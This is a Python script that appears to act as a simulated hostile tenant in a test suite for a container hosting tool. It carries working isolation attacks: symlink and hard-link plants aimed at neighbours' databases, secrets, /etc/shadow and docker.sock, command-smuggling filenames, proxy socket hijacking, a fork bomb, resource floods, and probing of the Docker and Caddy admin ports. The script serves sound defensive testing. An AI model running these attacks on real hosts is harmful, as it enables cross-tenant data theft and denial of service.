"""What runs in a hostile site's own containers, as its user: `python - WHAT NEIGHBOUR`.

Standard library alone: it is part of the hostile project too, which plants its links in
every container that the project is ever started in, those of its migrations included.
"""

import contextlib
import itertools
import os
import random
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

NAME = os.environ.get("STAGETOOLS_SYSTEM", "hostile_prod")
RELEASE = os.environ.get("STAGETOOLS_RELEASE", "20260101-000000-abcdefg")
HOME, RUN = Path("/home") / NAME, Path("/srv/stagetools/web/sites") / NAME / "run"
SOCKET = RUN / f"{RELEASE}.sock"
HIDDEN = RUN / f"hidden-{RELEASE}"
DATABASE = HOME / "data" / f"{NAME.rpartition('_')[0]}.sqlite3"
WRITABLE = [
    *(HOME / part for part in ("data", "media", "static-archive", "backups")),
    *(RUN, Path("/tmp"), Path("/dev/shm")),
]
LONG = 3.0  # seconds that an attack goes on
HOG = 600 * 2**20  # bytes; more than the site may have, less than hurts who tests
PROCESSES = 2_000
LINES = 60_000


def prey(neighbour: str) -> list[str]:
    """What a link might lead to, as root and as the proxy see it."""
    app, site = neighbour.rpartition("_")[0], f"/web/sites/{neighbour}"
    keys = "caddy/certificates/local"
    return [
        f"/home/{neighbour}/env",
        f"/home/{neighbour}/data/{app}.sqlite3",
        f"/home/{neighbour}/media/canary.txt",
        f"/home/{neighbour}/backups",
        f"/home/{neighbour}",
        "/root/canary",
        "/etc/shadow",
        "/etc",
        f"/data/{keys}",
        f"/var/lib/docker/volumes/stagetools-proxy_data/_data/{keys}",
        "/run/caddy/admin.sock",
        "/var/run/docker.sock",
        f"{site}/current.sock",
        f"{site}/run",
        f"/srv/stagetools{site}/current.sock",
        "/srv/stagetools/proxy",
        "/proc/1/environ",
        "/proc/self/root/etc/shadow",
        f"../../{neighbour}/current.sock",
    ]


def names(neighbour: str) -> Iterator[str]:
    """Names that a careless script would meet, or split, or take for an option."""
    app = NAME.rpartition("_")[0]
    yield from (
        "-rf",
        "--",
        "-delete",
        "--help",
        "*",
        "? ",
        " ",
        "$(id)",
        "`id`",
        "a b",
    )
    yield from ("a\nb", "\n", "; id", "| id", "&", "'", '"', "\\", "\x7f", "new\r", "é")
    yield os.fsdecode(b"\xff\xfe")
    yield "n" * 255
    yield from ("current.sock", "next.sock", "site", "tls", "env", "releases", "canary")
    yield from (
        f"{RELEASE}.held",
        f"{app}.sqlite3.new",
        "rehearsal",
        f"{app}.sqlite3.bak",
    )
    yield f"before-20200101-000000-abcdefg.sqlite3\n{neighbour}"
    yield f"before-20200101-000000-abcdefg.sqlite3\n/home/{neighbour}/env"
    yield f"before-{RELEASE}.sqlite3"
    yield f"x\n{RELEASE}.json"


def names_to_come() -> Iterator[str]:
    """Whatever root, or a release that is about to start, is about to write here."""
    now, launch = datetime.now(UTC), RELEASE.rpartition("-")[2]
    for ahead in range(-2, 30):
        at = f"{now + timedelta(seconds=ahead):%Y%m%d-%H%M%S}-{launch}"
        yield from (f"before-{at}.sqlite3", f"replaced-{at}.sqlite3")


def plant(neighbour: str) -> None:
    """A link, a fifo, a directory, a huge file or a socket under every name, everywhere."""
    plant_each(neighbour, list(names(neighbour)))


def plant_ahead(neighbour: str) -> None:
    """The same, under names that the site's own next release will want."""
    plant_each(neighbour, list(names_to_come()))
    now, launch = datetime.now(UTC), RELEASE.rpartition("-")[2]
    for ahead, aim in zip(range(8), itertools.cycle(prey(neighbour))):
        at = f"{now + timedelta(seconds=ahead):%Y%m%d-%H%M%S}-{launch}"
        with contextlib.suppress(OSError):
            link(RUN / f"{at}.sock", aim)


def plant_each(neighbour: str, every: list[str]) -> None:
    aims = itertools.cycle(prey(neighbour))
    for folder in WRITABLE:
        kinds = [link, link, fifo, directory, link, huge, listener]
        if (
            folder.name == "static-archive"
        ):  # whose other contents keep the site from starting
            kinds = [same_here, huge]
        makers = itertools.cycle(kinds)
        for name in every:
            with contextlib.suppress(OSError):
                next(makers)(folder / name, next(aims))


def at_start(neighbour: str) -> None:
    """Whenever any process of the project starts, migrations and rehearsals included.

    Not always all of it, for a site whose every snapshot fails gets no further.
    """
    plant(neighbour)
    if random.random() < 0.3:  # noqa: S311
        plant_each(neighbour, list(names_to_come()))
    if random.random() < 0.3:  # noqa: S311
        snapshots(neighbour)


def snapshots(neighbour: str) -> None:
    """The neighbour's database under the name of each of the site's own snapshots."""
    aim = f"/home/{neighbour}/data/{neighbour.rpartition('_')[0]}.sqlite3"
    for path in (HOME / "backups").glob("*.sqlite3"):
        with contextlib.suppress(OSError):
            path.rename(path.with_name(f"hidden-{path.name}"))
            path.symlink_to(aim)


def recover() -> None:
    """Put back what an attack had hidden when it was ended."""
    for hidden, path in ((HIDDEN, SOCKET), (DATABASE.with_name("hidden"), DATABASE)):
        with contextlib.suppress(OSError):
            if hidden.exists():
                hidden.rename(path)


def link(path: Path, aim: str) -> None:
    path.symlink_to(aim)


def same_here(path: Path, _: str) -> None:
    """Where it leads there is a file in here, too: another one."""
    path.symlink_to("/etc/passwd")


def fifo(path: Path, _: str) -> None:
    os.mkfifo(path)


def directory(path: Path, aim: str) -> None:
    path.mkdir()
    (path / "in\nit").symlink_to(aim)
    if (
        path.parent.name != "data"
    ):  # its own copies of that would fail, and prove nothing
        path.chmod(0)


def huge(path: Path, _: str) -> None:
    """A terabyte that takes no room, until a careless copy."""
    with path.open("xb") as file:
        file.truncate(2**40)


def listener(path: Path, _: str) -> None:
    with socket.socket(socket.AF_UNIX) as one:
        one.bind(str(path))
        one.listen()


def hard_links(neighbour: str) -> None:
    """Of everything that lies where nothing but a name keeps it apart."""
    for number, aim in enumerate([*prey(neighbour), str(SOCKET), str(DATABASE)]):
        for folder in WRITABLE:
            with contextlib.suppress(OSError):
                os.link(aim, folder / f"hard-{number}")


# --- in the place of the site's own socket -------------------------------------------------


@contextlib.contextmanager
def instead_of(path: Path, hidden: Path) -> Iterator[None]:
    """Take the path for a while, and give it back."""
    path.rename(hidden)
    try:
        yield
    finally:
        with contextlib.suppress(OSError):
            path.unlink()
        hidden.rename(path)


def sockets(neighbour: str) -> None:
    """Lead the proxy elsewhere by what it dials."""
    aims = [aim for aim in prey(neighbour) if "sock" in aim or "run" in aim]
    with instead_of(SOCKET, HIDDEN):
        for aim in aims:
            with contextlib.suppress(OSError):
                SOCKET.unlink()
            SOCKET.symlink_to(aim)
            time.sleep(0.7)
        for maker in (fifo, directory):
            with contextlib.suppress(OSError):
                SOCKET.unlink()
            maker(SOCKET, "")
            time.sleep(LONG / 4)
        with contextlib.suppress(OSError):
            SOCKET.chmod(0o700)
            (SOCKET / "in\nit").unlink()
            SOCKET.rmdir()


def database(neighbour: str) -> None:
    """The neighbour's database under the name of the site's own, while root copies it."""
    aim = f"/home/{neighbour}/data/{neighbour.rpartition('_')[0]}.sqlite3"
    with instead_of(DATABASE, DATABASE.with_name("hidden")):
        DATABASE.symlink_to(aim)
        time.sleep(LONG)


def serve(answer: Callable[[socket.socket], None], path: Path = SOCKET) -> None:
    """Be what the proxy dials: every connection gets this answer."""
    with instead_of(SOCKET, HIDDEN), socket.socket(socket.AF_UNIX) as listening:
        listening.bind(str(path))
        path.chmod(0o777)
        if path != SOCKET:
            path.rename(SOCKET)
        listening.listen(500)
        listening.settimeout(0.2)
        end = time.monotonic() + LONG
        while time.monotonic() < end:
            with contextlib.suppress(OSError):
                visitor, _ = listening.accept()
                threading.Thread(target=answer, args=(visitor,), daemon=True).start()


def endlessly(head: bytes, line: bytes) -> Callable[[socket.socket], None]:
    def answer(visitor: socket.socket) -> None:
        with contextlib.suppress(OSError), visitor:
            visitor.sendall(head)
            while True:
                visitor.sendall(line * 64)

    return answer


def silence(visitor: socket.socket) -> None:
    with visitor:
        time.sleep(60)


OK = b"HTTP/1.1 200 OK\r\n"
ANSWERS = {
    "endless headers": endlessly(OK, b"X-Endless: " + b"x" * 900 + b"\r\n"),
    "an endless header": endlessly(OK + b"X-Endless: ", b"x" * 1024),
    "an endless body": endlessly(OK + b"\r\n", b"x" * 1024),
    "endless chunks": endlessly(
        OK + b"Transfer-Encoding: chunked\r\n\r\n", b"400\r\n" + b"x" * 1024 + b"\r\n"
    ),
    "endless hints": endlessly(b"", b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n"),
    "garbage": endlessly(b"\x00\xff\x16\x03\x01", os.urandom(1024)),
    "silence": silence,
}


def another_name(neighbour: str) -> None:
    """Connections that the kernel books under a name that ends as the neighbour's socket."""
    where = Path(f"/srv/stagetools/web/sites/{neighbour}/run")
    os.chdir(RUN)
    folder = Path("x " + str(where))
    folder.mkdir(parents=True, exist_ok=True)
    live = os.environ.get("NEIGHBOURS_RELEASE", RELEASE)
    path = folder / f"{live}.sock"
    path.unlink(missing_ok=True)
    serve(silence, path)


def abstract(neighbour: str) -> None:
    """Sockets without a file, under every name that anybody might look for."""
    held = []
    for aim in [*prey(neighbour), str(SOCKET)]:
        with contextlib.suppress(OSError):
            one = socket.socket(socket.AF_UNIX)
            one.bind("\0" + aim)
            one.listen()
            held.append(one)
    time.sleep(LONG / 2)


# --- more than its share ---------------------------------------------------------------------


def fork_bomb(_: str) -> None:
    os.setpgid(0, 0)
    children = 0
    end = time.monotonic() + LONG
    while time.monotonic() < end and children < PROCESSES:
        try:
            if os.fork() == 0:
                while time.monotonic() < end:
                    pass
                os._exit(0)
            children += 1
        except OSError:
            time.sleep(0.01)
    say(str(children))
    os.killpg(0, signal.SIGKILL)


def memory(_: str) -> None:
    """All of it, page by page, and the file systems that are made of it."""
    for folder in ("/dev/shm", "/tmp"):
        fill(Path(folder) / "hog")
    held = bytearray()
    while len(held) < HOG:
        held += bytes(16 * 2**20)


def fill(path: Path) -> None:
    with contextlib.suppress(OSError), path.open("wb") as file:
        for _ in range(HOG // 2**20):
            file.write(b"x" * 2**20)


def disk(_: str) -> None:
    """Until the volume that the site has for uploads is full; then free again."""
    path = HOME / "media" / "fill"
    fill(path)
    time.sleep(LONG / 2)
    path.unlink(missing_ok=True)


def logs(_: str) -> None:
    """Into the log of the container, by the output of its first process."""
    with open("/proc/1/fd/1", "wb", buffering=0) as out:  # noqa: PTH123
        for number in range(0, LINES, 100):
            lines = (f"flood {number + i} {'x' * 80}\n" for i in range(100))
            out.write("".join(lines).encode())


# --- what it must not be able to do ----------------------------------------------------------


def look(neighbour: str) -> None:
    """Print whatever there is to be read of the neighbour's and of root's."""
    for path in [
        *prey(neighbour),
        "/proc/1/root/root/canary",
        "/proc/kcore",
        "/dev/mem",
    ]:
        with contextlib.suppress(OSError):
            say(Path(path).read_bytes()[:100_000])
    for process in Path("/proc").glob("[0-9]*"):
        with contextlib.suppress(OSError):
            say((process / "environ").read_bytes())
    for call in (lambda: os.setuid(0), lambda: os.chroot("/"), os.setgroups):
        with contextlib.suppress(OSError, TypeError):
            call()
            say("more rights than it had")
    reach("127.0.0.1", [2019, 9180])
    gateway = "".join(gateways())
    reach(gateway, [2019, 2375, 2376, 9180])
    say(Path("/proc/1/status").read_text())


def say(what: object) -> None:
    sys.stdout.write(f"{what!r}\n")
    sys.stdout.flush()


def gateways() -> Iterator[str]:
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        _, target, gateway, *_ = line.split()
        if target == "00000000":
            yield socket.inet_ntoa(bytes.fromhex(gateway)[::-1])


def reach(address: str, ports: list[int]) -> None:
    for port in ports:
        with contextlib.suppress(OSError):
            with socket.create_connection((address, port), timeout=0.5) as one:
                one.sendall(b"GET /config/ HTTP/1.0\r\nHost: localhost\r\n\r\n")
                one.settimeout(1)
                say(one.recv(100_000))
            say(f"port {port} of the server is open")


ATTACKS: dict[str, Callable[[str], None]] = {
    "plant": plant,
    "plant ahead": plant_ahead,
    "hard links": hard_links,
    "sockets": sockets,
    "database": database,
    "another name": another_name,
    "abstract": abstract,
    "fork bomb": fork_bomb,
    "memory": memory,
    "disk": disk,
    "logs": logs,
    "look": look,
    "stop": lambda _: None,
}


def attack(what: str, neighbour: str) -> None:
    recover()
    if answer := ANSWERS.get(what):
        serve(answer)
    else:
        ATTACKS[what](neighbour)


if __name__ == "__main__":
    attack(*sys.argv[1:])
